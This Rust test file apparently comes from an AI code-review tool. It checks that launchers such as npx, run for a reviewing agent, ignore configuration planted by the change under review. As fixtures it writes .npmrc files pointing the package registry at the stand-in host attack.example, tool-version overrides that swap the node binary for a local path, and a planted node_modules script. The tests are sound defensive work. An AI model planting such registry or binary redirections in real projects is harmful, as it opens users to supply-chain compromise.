//! A launcher (`npx`) reads files of the folder in which it is started: none of the change's is there.

use super::{answer, marks, with_judge};

/// Notes what a launcher would obey, and what it was asked.
const LOOKS: &str = r#"
for file in .npmrc .tool-versions sub/.mise.toml node_modules; do [ -e $file ] && echo $file >>@MARKS/led; done
ls -a >@MARKS/room
"#;

#[test]
fn no_file_of_a_change_chooses_the_program_of_a_judge() {
    let asked = "printf '%s' \"$prompt\" >@MARKS/asked\n";
    let script = format!("{LOOKS}{}\n{asked}", answer("PASS", ""));
    let repo = with_judge(&script, "");
    repo.write(".npmrc", "registry=http://attack.example/\n");
    repo.write(".tool-versions", "nodejs path:./x\n");
    repo.write("sub/.mise.toml", "[tools]\nnode = 'path:./x'\n");
    repo.write("node_modules/agent/index.js", "attack()\n");
    repo.write("package.json", "{}\n");
    repo.commit("Lead");
    repo.council(["review", "HEAD", "--agents", "helper"]);
    let told = |name: &str| std::fs::read_to_string(repo.in_home("marks").join(name));
    let room = told("room").unwrap();
    assert!(room.contains("package.json"), "{room}");
    assert!(
        told("led").is_err(),
        "{:?} in {}",
        told("led"),
        marks(&repo)
    );
    // Nothing of the change is kept from the judge: its brief has it.
    assert!(told("asked").unwrap().contains("attack.example"));
}

/// Launchers read the folders above the room, too.
#[test]
fn what_lies_above_the_room_of_a_judge_is_the_user_s_own() {
    let script = format!("pwd >@MARKS/place\n{}", answer("PASS", ""));
    let repo = with_judge(&script, "");
    repo.write("tmp/.npmrc", "registry=http://attack.example/\n");
    repo.write("cache/.npmrc", "registry=http://attack.example/\n");
    repo.commit("Lead");
    let checkout = repo.path().canonicalize().unwrap();
    let place = |vars: &[(&str, &str)]| {
        repo.council_with(vars, &["review", "HEAD", "--agents", "helper", "--fresh"]);
        let told = std::fs::read_to_string(repo.in_home("marks").join("place")).unwrap();
        std::path::PathBuf::from(told.trim_end())
    };
    let inside = |name: &str| checkout.join(name).to_str().unwrap().to_owned();
    let (temporary, cache) = (inside("tmp"), inside("cache"));
    for vars in [
        &[][..],
        &[("TMPDIR", temporary.as_str())],
        &[("XDG_CACHE_HOME", cache.as_str())],
    ] {
        let room = place(vars);
        assert!(!room.starts_with(&checkout), "{vars:?}: {}", room.display());
    }
    let own = repo.in_home(".cache/git-council/rooms");
    assert!(place(&[]).starts_with(own.canonicalize().unwrap()));
    assert_eq!(
        std::fs::read_dir(own).unwrap().count(),
        0,
        "nothing is left"
    );
}
